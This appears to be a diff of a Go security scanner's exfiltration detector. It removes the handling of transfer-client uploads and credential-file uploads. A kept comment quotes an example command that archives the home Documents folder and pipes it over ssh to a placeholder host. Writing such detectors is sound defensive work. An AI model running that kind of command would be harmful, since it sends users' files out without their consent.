@@ -738,8 +738,6 @@ func exfilOf(ctx *Context, c *Command) *Finding {
 				}
 			}
 		}
-	case transferClients.has(name):
-		sent = transferUploads(c)
 	case name == "ssh" || name == "autossh":
 		// tar cz ~/Documents | ssh HOST 'cat > d.tgz': what the remote
 		// command reads comes from here. The working directory so sent
@@ -803,10 +801,6 @@ func exfilOf(ctx *Context, c *Command) *Finding {
 			what = p + ", the home directory,"
 		case userData(ctx.Env, p) != "":
 			what = userData(ctx.Env, p)
-		case transferClients.has(name) && credPathRule(path.Clean(abs)) != "":
-			// The cred rules read HTTP clients' uploads; a transfer
-			// script's are read here.
-			what = p + ", a credential file,"
 		default:
 			if src, ok := archivedProject(ctx, c, p); ok {
 				what = p + ", an archive of " + src + ","
